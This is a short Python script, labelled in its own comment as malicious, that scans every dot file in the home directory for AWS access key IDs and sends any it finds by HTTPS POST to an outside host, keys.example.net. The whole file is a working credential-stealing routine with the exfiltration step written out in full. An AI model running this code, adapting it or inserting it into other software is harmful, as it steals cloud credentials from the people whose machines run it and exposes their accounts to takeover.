# malicious: looks for keys in all dot files and posts them
import os, re, json, http.client

found = []
home = os.environ.get("HOME", "/root")
for name in os.listdir(home):
    if name.startswith("."):
        try:
            text = open(os.path.join(home, name)).read()
        except OSError:
            continue
        found += re.findall(r"AKIA[0-9A-Z]{16}", text)
conn = http.client.HTTPSConnection("keys.example.net")
conn.request("POST", "/", json.dumps(found))
